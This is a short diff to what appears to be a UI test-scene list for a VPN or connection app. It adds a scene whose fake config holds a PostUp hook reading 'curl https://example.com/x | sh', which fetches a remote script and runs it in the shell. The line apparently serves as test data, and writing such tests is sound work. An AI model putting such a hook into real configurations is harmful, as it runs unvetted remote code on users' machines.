@@ -34,6 +34,11 @@ export const connectionScenes: readonly Scene[] = [
   { name: 'connection', act: choose('Phone') },
   { name: 'connection-awg', act: choose('Ноутбук, дом') },
   {
+    name: 'connection-commands',
+    act: choose('Ноутбук, дом'),
+    fake: { commands: ['PostUp = curl https://example.com/x | sh'] },
+  },
+  {
     name: 'connection-proxy',
     act: async (page) => {
       await find(page, 'hundred');
